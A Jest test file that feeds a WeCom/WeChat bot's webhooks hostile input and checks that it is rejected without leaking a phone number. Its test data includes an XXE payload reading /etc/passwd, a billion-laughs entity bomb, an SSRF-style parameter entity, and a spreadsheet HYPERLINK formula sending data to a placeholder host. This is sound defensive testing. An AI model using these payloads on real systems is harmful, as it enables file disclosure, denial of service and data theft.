import { encrypt, getSignature } from '@wecom/crypto';
import { Customer, Evidence, InboundMessage, OutboxMessage, Penalty } from '../../src/entities';
import { enqueue } from '../../src/bot/outbox';
import { parseCsv } from '../../src/api/csv';
import { describeEachDatabase } from '../support/databases';
import { startBot, TEST_ADMIN_TOKEN, type RunningBot } from '../support/harness';
import { addCase } from '../support/seed';
import { OA, WECOM, oaEvent, oaPlainRequest, oaSafeRequest, oaText, wecomRequest, wecomText } from '../support/wx';

/**
 * Bad input gets a clear answer: a 4xx (or the protocol's "no reply" for types we do not handle),
 * a log line without personal data, nothing stored, and the process alive. Every payload carries
 * a phone number that must never reach a log.
 */

const PHONE = '13912345678';
const now = () => String(Math.floor(Date.now() / 1000));
const cdata = (v: string) => `<![CDATA[${v}]]>`;

/** A WeCom envelope whose inner plaintext is exactly `inner` (signature valid). */
function wecomWith(inner: string, options: { receiveId?: string; aesKey?: string; timestamp?: string } = {}) {
  const timestamp = options.timestamp ?? now();
  const nonce = '12345';
  const encrypted = encrypt(options.aesKey ?? WECOM.aesKey, inner, options.receiveId ?? WECOM.corpId);
  const sig = getSignature(WECOM.token, timestamp, nonce, encrypted);
  return { path: `/wecom?msg_signature=${sig}&timestamp=${timestamp}&nonce=${nonce}`, body: `<xml><Encrypt>${cdata(encrypted)}</Encrypt></xml>` };
}

/** A WeCom envelope with an arbitrary Encrypt value, correctly signed. */
function wecomSignedEncrypt(encryptValue: string) {
  const timestamp = now();
  const sig = getSignature(WECOM.token, timestamp, '1', encryptValue);
  return { path: `/wecom?msg_signature=${sig}&timestamp=${timestamp}&nonce=1`, body: `<xml><Encrypt>${cdata(encryptValue)}</Encrypt></xml>` };
}

function wecomOuter(body: string) {
  const timestamp = now();
  const sig = getSignature(WECOM.token, timestamp, '1', '');
  return { path: `/wecom?msg_signature=${sig}&timestamp=${timestamp}&nonce=1`, body };
}

const inner = (fields: string) => `<xml><ToUserName>${cdata(WECOM.corpId)}</ToUserName>${fields}<AgentID>1000002</AgentID></xml>`;
const from = `<FromUserName>${cdata('u1')}</FromUserName>`;
const created = `<CreateTime>${now()}</CreateTime>`;
const textMsg = (content: string) => `${from}${created}<MsgType>${cdata('text')}</MsgType><Content>${cdata(content)}</Content><MsgId>99${Date.now()}</MsgId>`;
const nest = (depth: number) => '<a>'.repeat(depth) + 'x' + '</a>'.repeat(depth);
const laughs =
  '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><xml><Encrypt>&lol2;</Encrypt></xml>';
const xxe = '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Encrypt>&xxe;</Encrypt></xml>';

type Case = [name: string, build: () => { path: string; body: string; method?: string }, expectStatus: number, expectBody?: string];

const cases: Case[] = [
  // signatures and timestamps
  ['WeCom: missing msg_signature', () => ({ ...wecomRequest(wecomText('u1', PHONE)), path: `/wecom?timestamp=${now()}&nonce=1` }), 400],
  ['WeCom: forged msg_signature', () => { const r = wecomRequest(wecomText('u1', PHONE)); return { ...r, path: r.path.replace(/msg_signature=[0-9a-f]+/, `msg_signature=${'a'.repeat(40)}`) }; }, 403],
  ['WeCom: signed with another token', () => wecomRequest(wecomText('u1', PHONE), { token: 'other-token' }), 403],
  ['WeCom: signature in upper case of another value', () => { const r = wecomRequest(wecomText('u1', PHONE)); return { ...r, path: r.path.replace(/msg_signature=[0-9a-f]+/, `msg_signature=${'F'.repeat(40)}`) }; }, 403],
  ['WeCom: stale timestamp (replayed capture)', () => wecomRequest(wecomText('u1', PHONE), { timestamp: String(Math.floor(Date.now() / 1000) - 3600) }), 403],
  ['WeCom: timestamp in the future', () => wecomRequest(wecomText('u1', PHONE), { timestamp: String(Math.floor(Date.now() / 1000) + 3600) }), 403],
  ['WeCom: timestamp not a number', () => wecomRequest(wecomText('u1', PHONE), { timestamp: 'yesterday' }), 400],
  ['WeCom: missing nonce', () => { const r = wecomRequest(wecomText('u1', PHONE)); return { ...r, path: r.path.replace(/&?nonce=\d+/, '') }; }, 400],
  ['WeCom: timestamp given twice', () => { const r = wecomRequest(wecomText('u1', PHONE)); return { ...r, path: `${r.path}&timestamp=1` }; }, 400],
  // size and shape of the outer body
  ['WeCom: body over the size limit', () => ({ ...wecomRequest(wecomText('u1', PHONE)), body: `<xml><Encrypt>${'A'.repeat(200_000)}</Encrypt></xml>` }), 413],
  ['WeCom: empty body', () => ({ ...wecomRequest(wecomText('u1', PHONE)), body: '' }), 400],
  ['WeCom: not XML at all', () => wecomOuter(`{"phone":"${PHONE}"}`), 400],
  ['WeCom: truncated XML', () => wecomOuter('<xml><Encrypt><![CDATA[abc'), 400],
  ['WeCom: two root elements', () => wecomOuter('<xml></xml><xml></xml>'), 400],
  ['WeCom: entity expansion (billion laughs)', () => wecomOuter(laughs), 400],
  ['WeCom: external entity (XXE)', () => wecomOuter(xxe), 400],
  ['WeCom: parameter entity', () => wecomOuter('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1/x"> %p;]><xml/>'), 400],
  ['WeCom: deeply nested outer XML', () => wecomOuter(`<xml>${nest(200)}</xml>`), 400],
  ['WeCom: envelope without Encrypt', () => wecomOuter(`<xml><ToUserName>${cdata(WECOM.corpId)}</ToUserName></xml>`), 400],
  ['WeCom: Encrypt twice', () => wecomOuter('<xml><Encrypt>a</Encrypt><Encrypt>b</Encrypt></xml>'), 400],
  ['WeCom: non-UTF-8 bytes', () => wecomOuter(Buffer.from([0x3c, 0x78, 0xff, 0xfe, 0x3e]).toString('latin1')), 400],
  // the encrypted frame
  ['WeCom: Encrypt is not base64', () => wecomSignedEncrypt('not base64 at all!'), 400],
  ['WeCom: Encrypt truncated', () => wecomSignedEncrypt(encrypt(WECOM.aesKey, inner(textMsg(PHONE)), WECOM.corpId).slice(0, 64)), 400],
  ['WeCom: frame for another corp', () => wecomWith(inner(textMsg(PHONE)), { receiveId: 'ww_other_corp' }), 400],
  ['WeCom: encrypted with another AES key', () => wecomWith(inner(textMsg(PHONE)), { aesKey: OA.aesKey }), 400],
  ['WeCom: 32 zero bytes', () => wecomSignedEncrypt(Buffer.alloc(32).toString('base64')), 400],
  // the decrypted message
  ['WeCom: inner XML malformed', () => wecomWith(`<xml><Content>${PHONE}</xml>`), 400],
  ['WeCom: inner XML with DOCTYPE', () => wecomWith(`<!DOCTYPE x [<!ENTITY e "${PHONE}">]>${inner(textMsg('&e;'))}`), 400],
  ['WeCom: inner XML deeply nested', () => wecomWith(inner(`${textMsg(PHONE)}${nest(100)}`)), 400],
  ['WeCom: no FromUserName', () => wecomWith(inner(`${created}<MsgType>${cdata('text')}</MsgType><Content>${cdata(PHONE)}</Content>`)), 400],
  ['WeCom: no MsgType', () => wecomWith(inner(`${from}${created}<Content>${cdata(PHONE)}</Content>`)), 400],
  ['WeCom: CreateTime not a number', () => wecomWith(inner(`${from}<CreateTime>soon</CreateTime><MsgType>${cdata('text')}</MsgType><Content>${cdata(PHONE)}</Content>`)), 400],
  ['WeCom: FromUserName nested instead of text', () => wecomWith(inner(`<FromUserName><a>1</a><a>2</a></FromUserName>${created}<MsgType>${cdata('text')}</MsgType>`)), 400],
  ['WeCom: Content of 9,000 characters (WeChat caps text far below)', () => wecomWith(inner(textMsg(PHONE + 'x'.repeat(9_000)))), 400],
  ['WeCom: huge EventKey', () => wecomWith(inner(`${from}${created}<MsgType>${cdata('event')}</MsgType><Event>${cdata('click')}</Event><EventKey>${cdata('K'.repeat(5000))}</EventKey>`)), 400],
  ['WeCom: card event without TaskId', () => wecomWith(inner(`${from}${created}<MsgType>${cdata('event')}</MsgType><Event>${cdata('template_card_event')}</Event><EventKey>${cdata('x')}</EventKey>`)), 400],
  ['WeCom: unknown message type', () => wecomWith(inner(`${from}${created}<MsgType>${cdata('hologram')}</MsgType><Content>${cdata(PHONE)}</Content><MsgId>1</MsgId>`)), 200, ''],
  ['WeCom: unknown event', () => wecomWith(inner(`${from}${created}<MsgType>${cdata('event')}</MsgType><Event>${cdata('enter_agent')}</Event>`)), 200, ''],
  ['WeCom: location with non-numeric coordinates', () => wecomWith(inner(`${from}${created}<MsgType>${cdata('location')}</MsgType><Location_X>north</Location_X><Location_Y>1</Location_Y><MsgId>5</MsgId>`)), 400],
  // URL verification
  ['WeCom GET: echostr missing', () => ({ path: `/wecom?msg_signature=${'a'.repeat(40)}&timestamp=1&nonce=1`, body: '', method: 'GET' }), 400],
  ['WeCom GET: forged signature', () => ({ path: `/wecom?msg_signature=${'a'.repeat(40)}&timestamp=1&nonce=1&echostr=abc`, body: '', method: 'GET' }), 403],
  ['WeCom GET: signed echostr that is not ciphertext', () => ({ path: `/wecom?msg_signature=${getSignature(WECOM.token, '1', '1', 'abcd')}&timestamp=1&nonce=1&echostr=abcd`, body: '', method: 'GET' }), 400],
  ['WeCom: PUT is not allowed', () => ({ ...wecomRequest(wecomText('u1', PHONE)), method: 'PUT' }), 405],
  // Official Account
  ['OA: plain mode sent to a safe-mode account', () => oaPlainRequest(oaText('o1', PHONE)), 400],
  ['OA: safe mode without msg_signature', () => { const r = oaSafeRequest(oaText('o1', PHONE)); return { ...r, path: r.path.replace(/&msg_signature=[0-9a-f]+/, '') }; }, 403],
  ['OA: safe mode with forged msg_signature', () => { const r = oaSafeRequest(oaText('o1', PHONE)); return { ...r, path: r.path.replace(/msg_signature=[0-9a-f]+/, `msg_signature=${'0'.repeat(40)}`) }; }, 403],
  ['OA: frame for another appid', () => oaSafeRequest(oaText('o1', PHONE), { receiveId: 'wx_someone_else' }), 400],
  ['OA: signed with another token', () => oaSafeRequest(oaText('o1', PHONE), { token: 'nottoken' }), 403],
  ['OA: stale timestamp', () => oaSafeRequest(oaText('o1', PHONE), { timestamp: String(Math.floor(Date.now() / 1000) - 1000) }), 403],
  ['OA: body over the size limit', () => ({ ...oaSafeRequest(oaText('o1', PHONE)), body: `<xml>${' '.repeat(100_000)}</xml>` }), 413],
  ['OA: entity expansion', () => ({ ...oaSafeRequest(oaText('o1', PHONE)), body: laughs }), 400],
  ['OA: external entity', () => ({ ...oaSafeRequest(oaText('o1', PHONE)), body: xxe }), 400],
  ['OA: unknown message type', () => oaSafeRequest(`<xml><ToUserName>${cdata(OA.ghId)}</ToUserName><FromUserName>${cdata('o1')}</FromUserName>${created}<MsgType>${cdata('miniprogrampage')}</MsgType><MsgId>3</MsgId></xml>`), 200, 'success'],
  ['OA: VIEW menu event (nothing to do)', () => oaSafeRequest(oaEvent('o1', 'VIEW', 'https://example.com')), 200, 'success'],
  ['OA GET: missing signature', () => ({ path: '/wechat?timestamp=1&nonce=1&echostr=1', body: '', method: 'GET' }), 400],
  ['OA GET: forged signature', () => ({ path: `/wechat?signature=${'b'.repeat(40)}&timestamp=1&nonce=1&echostr=1`, body: '', method: 'GET' }), 403],
];

describeEachDatabase('hostile input', ({ db, skipped }) => {
  let running: RunningBot;
  beforeAll(async () => {
    if (!skipped()) running = await startBot(db());
  });
  afterAll(async () => running?.stop());

  // one argument per row: jest would take a fourth, absent, parameter for a `done` callback
  it.each(cases.map((c) => [c[0], c] as const))('%s', async (_name, [, build, expectStatus, expectBody]) => {
    if (skipped()) return;
    const before = { inbound: await db().reader.count(InboundMessage), outbox: await db().reader.count(OutboxMessage) };
    const logLines = running.logs.lines.length;
    const request = build();
    const response = await fetch(running.url + request.path, { method: request.method ?? 'POST', body: request.method === 'GET' ? undefined : request.body });
    const text = await response.text();
    expect(response.status).toBe(expectStatus);
    if (expectBody !== undefined) expect(text).toBe(expectBody);
    expect(await db().reader.count(InboundMessage)).toBe(before.inbound);
    expect(await db().reader.count(OutboxMessage)).toBe(before.outbox);
    const newLines = running.logs.raw.slice(logLines).join('\n');
    if (expectStatus >= 400 && expectStatus !== 405) expect(newLines).toMatch(/webhook request rejected/);
    expect(newLines).not.toContain(PHONE);
    expect(text).not.toContain(PHONE);
  });

  it('is still up and serving after all of it', async () => {
    if (skipped()) return;
    expect((await running.get('/healthz')).status).toBe(200);
    expect((await running.get('/readyz')).status).toBe(200);
    expect(running.logs.text()).not.toContain(PHONE);
  });
});

/**
 * Hostile input that does not come as a callback: what the platform's media CDN answers, free text
 * that later lands in a spreadsheet, and a ciphertext moved inside the database. Each has its
 * own full test (test/bot/evidence.test.ts, test/api/exports.test.ts,
 * test/entities/bound-encryption.test.ts); these keep the cases in the hostile-input suite.
 */
describeEachDatabase('hostile input beyond callbacks', ({ db, skipped }) => {
  let running: RunningBot;
  beforeAll(async () => {
    if (!skipped()) running = await startBot(db(), { background: false });
  });
  afterAll(async () => running?.stop());
  const admin = (path: string) => fetch(running.url + path, { headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}` } });

  it.each([
    ['an endless media file', 'oversize_hostile'],
    ['a 404 page for a media file', 'missing_hostile'],
    ['a video link to an endless file', 'video_oversize_hostile'],
  ])('media: %s is refused, recorded as failed, nothing stored', async (_name, mediaId) => {
    if (skipped()) return;
    const evidence = await db().write(async (m) => {
      const { ticket } = await addCase(m);
      const row = await m.save(m.create(Evidence, { ticketId: ticket.id, platform: 'wechat', mediaId, mediaType: 'image', contentType: null, size: 0, status: 'pending', receivedAt: 1, fetchedAt: null }));
      await enqueue(m, [{ dedupKey: `hostile:${mediaId}`, message: { type: 'fetch_media', to: { platform: 'wechat', id: 'o1' }, mediaId, evidenceId: row.id } }], 0);
      return row;
    });
    await running.bot.outbox.drain();
    expect(await db().reader.findOneByOrFail(Evidence, { id: evidence.id })).toMatchObject({ status: 'failed', size: 0 });
    expect((await db().reader.findOneByOrFail(OutboxMessage, { dedupKey: `hostile:${mediaId}` })).status).toBe('undeliverable');
    expect((await running.get('/healthz')).status).toBe(200);
  });

  it('export: a penalty reason typed as a formula reaches the CSV as text', async () => {
    if (skipped()) return;
    const reason = `=HYPERLINK("http://x.example/?p=${PHONE}","查看")`;
    await db().write(async (m) => {
      const { ticket, housekeeper } = await addCase(m);
      await m.insert(Penalty, { ticketId: ticket.id, housekeeperId: housekeeper.id, amountFen: 100, reason, status: 'approved', month: '2026-10', raisedBy: 'csm', acknowledgedBy: null, approvedBy: 'gm01', createdAt: 1, decidedAt: 2 });
    });
    const csv = parseCsv((await (await admin('/api/penalties?month=2026-10&format=csv')).text()).replace(/^\ufeff/, ''));
    expect(csv[1][csv[0].indexOf('原因')]).toBe(`'${reason}`);
  });

  it('stored data: a customer’s ciphertext copied into another column is refused, not shown', async () => {
    if (skipped()) return;
    const customer = await db().write((m) => m.save(m.create(Customer, { platform: 'wechat', externalId: 'o_hostile_copy', name: '陈女士', phone: PHONE, channel: 'wechat', createdAt: 1 })));
    const [{ phone }] = await db().source.query('SELECT phone FROM customer WHERE id = ?', [customer.id]);
    await db().source.query('UPDATE customer SET name = ? WHERE id = ?', [phone, customer.id]);
    const response = await admin(`/api/customers/${customer.id}`);
    expect(response.status).toBe(500);
    expect(await response.text()).not.toContain(PHONE);
    expect(running.logs.text()).not.toContain(PHONE);
    expect((await running.get('/healthz')).status).toBe(200);
  });
});
